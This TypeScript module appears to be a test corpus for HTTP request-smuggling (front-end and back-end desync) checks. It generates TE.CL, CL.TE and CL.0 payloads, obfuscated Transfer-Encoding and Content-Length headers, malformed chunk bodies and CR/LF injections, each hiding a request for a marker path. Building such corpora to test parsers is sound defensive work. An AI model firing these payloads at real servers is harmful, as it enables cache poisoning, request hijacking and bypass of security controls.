// A corpus of requests that two readers may take for different ones (RFC 9112 §11.2): each hides a request for `/smuggled` in a body.

/** One attack: the bytes of a request for `/attack-{id}`; `{host}` and `{id}`, of three digits, are to be filled in. */
export interface Attack {
  readonly name: string
  readonly bytes: string
  /** The disguised field means nothing: by the letter, too, what is hidden is a second request of the attacker's own. */
  readonly isOwn?: boolean
}

/** What nobody asked for: whoever sees it as a request has lost count. */
export const MARKER = '/smuggled-{id}'
const HIDDEN = `GET ${MARKER} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 10\r\n\r\nx=1`
const PREFIX = `GET ${MARKER} HTTP/1.1\r\nX-Rest: `
/** `{host}` is filled in later, in a text of the same length everywhere. */
export const HOST_LENGTH = 40
const lengthOf = (text: string): number =>
  text.replaceAll('{host}', 'h'.repeat(HOST_LENGTH)).replaceAll('{id}', '000').length

const shown = (text: string): string => JSON.stringify(text).slice(1, -1)
const post = (fields: string, body: string, line = 'POST /attack-{id} HTTP/1.1'): string =>
  `${line}\r\nHost: {host}\r\n${fields}\r\n${body}`
const chunk = (body: string): string => `${lengthOf(body).toString(16)}\r\n${body}\r\n`

/** Ways to write a Transfer-Encoding that some read and some don't. */
const CODINGS: readonly string[] = [
  'Transfer-Encoding: chunked',
  'transfer-encoding:chunked',
  'TRANSFER-ENCODING: CHUNKED',
  ' Transfer-Encoding: chunked',
  '\tTransfer-Encoding: chunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding\t: chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: chunked\t',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding:\x0cchunked',
  'Transfer-Encoding: chunked\x0b',
  'Transfer-Encoding: chunked\x00',
  'Transfer-Encoding\x00: chunked',
  'Transfer-Encoding: \xa0chunked',
  'Transfer-Encoding: chunked\xa0',
  '\xefTransfer-Encoding: chunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunkedx',
  'Transfer-Encoding: chunk',
  'Transfer-Encoding: chun\xe2\x84\xaaed',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: [chunked]',
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding: chunked,',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: ',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding: x\r\n chunked',
  'X-A: 1\nTransfer-Encoding: chunked',
  'X-A: 1\rTransfer-Encoding: chunked',
  'X-A: 1\n\rTransfer-Encoding: chunked',
  'Transfer_Encoding: chunked',
  'Transfer.Encoding: chunked',
  'Transfer Encoding: chunked',
  'X-Transfer-Encoding: chunked',
  'Content-Encoding: chunked',
  'TE: chunked',
  'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
  'Connection: Content-Length\r\nTransfer-Encoding: chunked',
]

/** Ways to write the length of a body that some read and some don't; `{n}` is the length. */
const LENGTHS: readonly string[] = [
  'Content-Length: 0\r\nContent-Length: {n}',
  'Content-Length: {n}\r\nContent-Length: 0',
  'Content-Length: {n}, 0',
  'Content-Length: 0, {n}',
  'Content-Length: {n} 0',
  'Content-Length: 0 {n}',
  'Content-Length: +{n}',
  'Content-Length: 0{n}',
  'Content-Length: \x0b{n}',
  'Content-Length: {n}\x0b',
  'Content-Length: {n}\x00',
  'Content-Length: {n};',
  'Content-Length: {n}.0',
  'Content-Length: "{n}"',
  'Content-Length: 0x{n}',
  'Content-Length: {n}e0',
  'Content-Length : {n}',
  ' Content-Length: {n}',
  'Content-Length\x00: {n}',
  'X-A: 1\nContent-Length: {n}',
  'X-A: 1\rContent-Length: {n}',
  'Content-Length:\r\n {n}',
  'Connection: Content-Length\r\nContent-Length: {n}',
  'Connection: close, Content-Length\r\nContent-Length: {n}',
  'Expect: 100-continue\r\nContent-Length: {n}',
  'Expect: y 100-continue\r\nContent-Length: {n}',
  'Content-Length: {n}\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__',
  'Content-Length: {n}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 777\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
]

/** Bodies in chunks whose ends are in doubt; what follows them is the hidden request. */
const CHUNKS: readonly string[] = [
  `5;a=b\nxx\r\nhello\r\n0\r\n\r\n`,
  `5;\nhello\r\n0\r\n\r\n`,
  `5\r\nhello\n0\r\n\r\n`,
  `5\nhello\r\n0\r\n\r\n`,
  `5\rhello\r\n0\r\n\r\n`,
  `5 \r\nhello\r\n0\r\n\r\n`,
  ` 5\r\nhello\r\n0\r\n\r\n`,
  `0x5\r\nhello\r\n0\r\n\r\n`,
  `+5\r\nhello\r\n0\r\n\r\n`,
  `-5\r\nhello\r\n0\r\n\r\n`,
  `5;a="\r\nhello\r\n0\r\n\r\n`,
  `10000000000000005\r\nhello\r\n0\r\n\r\n`,
  `5\r\nhelloXX0\r\n\r\n`,
  `5\r\nhello\r\n0\r\nX-A: 1\nX-B: 2\r\n\r\n`,
  `5\r\nhello\r\n0\r\n X-A: 1\r\n\r\n`,
  `5\r\nhello\r\n0\r\nX-A\r\n\r\n`,
  `5\r\nhello\r\n0\r\n\nX\r\n\r\n`,
  `5\r\nhello\r\n0\r\n\rX\r\n\r\n`,
]

const MEANINGLESS = /^(Transfer[_.]|X-|Content-Enc|TE:)/

const codings = CODINGS.flatMap((coding): Attack[] => [
  {
    isOwn: MEANINGLESS.test(coding) && !/[\r\n]/.test(coding),
    name: `TE.CL ${shown(coding)}`,
    bytes: post(`Content-Length: 4\r\n${coding}\r\n`, `${chunk(HIDDEN)}0\r\n\r\n`),
  },
  {
    name: `CL.TE ${shown(coding)}`,
    bytes: post(`Content-Length: ${lengthOf(`0\r\n\r\n${PREFIX}`)}\r\n${coding}\r\n`, `0\r\n\r\n${PREFIX}`),
  },
])
const lengths = LENGTHS.flatMap((length): Attack[] =>
  ['POST', 'GET'].map((method) => ({
    name: `CL.0 ${method} ${shown(length)}`,
    bytes: post(
      `${length.replaceAll('{n}', String(lengthOf(HIDDEN)))}\r\n`,
      HIDDEN,
      `${method} /attack-{id} HTTP/1.1`,
    ),
  })),
)
const chunks = CHUNKS.map((body): Attack => ({
  name: `chunks ${shown(body)}`,
  // By those who find its end, one request and nothing after: the hidden one is inside a chunk's extension or data.
  bytes: post('Transfer-Encoding: chunked\r\n', `${chunk(HIDDEN)}${body}`),
}))
const bare = ['GET', 'HEAD', 'OPTIONS', 'DELETE', 'PUT'].flatMap((method): Attack[] => [
  {
    name: `${method} with a body of known length`,
    bytes: post(`Content-Length: ${lengthOf(HIDDEN)}\r\n`, HIDDEN, `${method} /attack-{id} HTTP/1.1`),
  },
  {
    name: `${method} with a body in chunks`,
    bytes: post(
      'Transfer-Encoding: chunked\r\n',
      `${chunk(HIDDEN)}0\r\n\r\n`,
      `${method} /attack-{id} HTTP/1.1`,
    ),
  },
])
const lines: readonly Attack[] = [
  {
    name: 'chunked on HTTP/1.0',
    bytes: post(
      'Transfer-Encoding: chunked\r\nConnection: keep-alive\r\n',
      `${chunk(HIDDEN)}0\r\n\r\n`,
      'POST /attack-{id} HTTP/1.0',
    ),
  },
  {
    name: 'line ends in the target, encoded',
    bytes: post('', '', `GET /attack-{id}%20HTTP/1.1%0d%0aHost:x%0d%0a%0d%0aGET%20${MARKER} HTTP/1.1`),
  },
  {
    name: 'a lone carriage return in the target',
    bytes: post('', '', `GET /attack-{id}\rGET ${MARKER} HTTP/1.1`),
  },
  { name: 'a second request line as a field', bytes: post(`GET ${MARKER} HTTP/1.1\r\n`, '') },
  { name: 'a request in a folded field', bytes: post(`X-A: 1\r\n GET ${MARKER} HTTP/1.1\r\n`, '') },
  {
    name: 'a request after lone line feeds in a value',
    bytes: post(`X-A: 1\n\nGET ${MARKER} HTTP/1.1\nHost: {host}\r\n`, ''),
  },
  {
    name: 'a request after lone carriage returns in a value',
    bytes: post(`X-A: 1\r\rGET ${MARKER} HTTP/1.1\rHost: {host}\r\n`, ''),
  },
]

/** All of it. */
export const attacks: readonly Attack[] = [...codings, ...lengths, ...chunks, ...bare, ...lines]
